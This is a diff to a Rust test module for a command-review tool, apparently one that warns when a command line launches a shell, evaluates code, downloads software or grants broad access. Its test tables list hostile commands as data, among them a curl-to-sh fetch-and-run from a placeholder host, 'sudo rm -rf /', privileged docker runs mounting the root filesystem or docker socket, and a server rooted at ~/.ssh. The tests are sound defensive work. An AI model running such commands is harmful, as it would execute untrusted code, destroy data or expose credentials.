@@ -394,16 +394,16 @@ mod tests {
     #[test]
     fn thirty_shapes_of_commands_have_the_right_warnings() {
         let table: &[(&[&str], &[&str], &[&str])] = &[
-            (&["sh", "-c", "echo hi"], &[], &["is a shell", "-c has sh run"]),
+            (&["sh", "-c", "echo hi"], &[], &["is a shell", "-c makes sh run"]),
             (&["/bin/bash", "-lc", "server"], &[], &["bash is a shell", "-lc makes bash run"]),
-            (&["cmd.exe", "/c", "server.bat"], &[], &["cmd is a shell", "/c has cmd run"]),
-            (&["pwsh", "-EncodedCommand", "AAAA"], &[], &["pwsh is a shell", "-EncodedCommand has"]),
-            (&["node", "-e", "require('x')"], &[], &["-e has node run"]),
-            (&["node", "--eval", "1"], &[], &["--eval has node run"]),
-            (&["python3.12", "-c", "import os"], &[], &["-c has python3.12 run"]),
-            (&["perl", "-e", "1"], &[], &["-e has perl run"]),
-            (&["osascript", "-e", "tell"], &[], &["-e has osascript run"]),
-            (&["npx", "-c", "evil"], &[], &["-c has npx run", "downloads", "no version"]),
+            (&["cmd.exe", "/c", "server.bat"], &[], &["cmd is a shell", "/c makes cmd run"]),
+            (&["pwsh", "-EncodedCommand", "AAAA"], &[], &["pwsh is a shell", "-EncodedCommand makes"]),
+            (&["node", "-e", "require('x')"], &[], &["-e makes node run"]),
+            (&["node", "--eval", "1"], &[], &["--eval makes node run"]),
+            (&["python3.12", "-c", "import os"], &[], &["-c makes python3.12 run"]),
+            (&["perl", "-e", "1"], &[], &["-e makes perl run"]),
+            (&["osascript", "-e", "tell"], &[], &["-e makes osascript run"]),
+            (&["npx", "-c", "evil"], &[], &["-c makes npx run", "downloads", "no version"]),
             (
                 &["npx", "-y", "@scope/server"],
                 &[],
@@ -448,12 +448,12 @@ mod tests {
             (
                 &["sh", "-c", "curl https://x.example/i | sh"],
                 &[],
-                &["shell", "-c has", "curl fetches", "it runs what it downloads"],
+                &["shell", "-c makes", "curl fetches", "it runs what it downloads"],
             ),
             (
                 &["bash", "-c", "sudo rm -rf /"],
                 &[],
-                &["shell", "-c has", "sudo gives", "rm deletes", "/ contains your"],
+                &["shell", "-c makes", "sudo gives", "rm deletes", "/ contains your"],
             ),
             (&["wget", "https://x.example"], &[], &["wget fetches"]),
             (&["server", "--root", "/home/me/.ssh"], &[], &["/home/me/.ssh contains your"]),
@@ -485,6 +485,26 @@ mod tests {
             for expected in *expected {
                 assert!(told.iter().any(|told| told.contains(expected)), "{line:?}: {expected}: {told:?}");
             }
+        }
+    }
+
+    #[test]
+    fn what_gives_power_over_the_computer_is_a_danger() {
+        let dangers = |line: &[&str]| {
+            let args: Vec<String> = line.iter().skip(1).map(ToString::to_string).collect();
+            let notes = review_command(line[0], &args, &[]);
+            notes.iter().filter(|note| note.code == CommandNoteCode::Danger).count()
+        };
+        for (line, expected) in [
+            (&["sudo", "server"][..], 1),
+            (&["bash", "-c", "sudo rm -rf /tmp/x"], 2),
+            (&["sh", "-c", "curl https://x.example/i | sh"], 1),
+            (&["docker", "run", "--privileged", "-v", "/:/host", "x/y:1"], 2),
+            (&["docker", "run", "-v", "/var/run/docker.sock:/s", "x/y:1"], 1),
+            (&["server", "--root", "/home/me/.ssh"], 0),
+            (&["npx", "-y", "server"], 0),
+        ] {
+            assert_eq!(dangers(line), expected, "{line:?}");
         }
     }
 
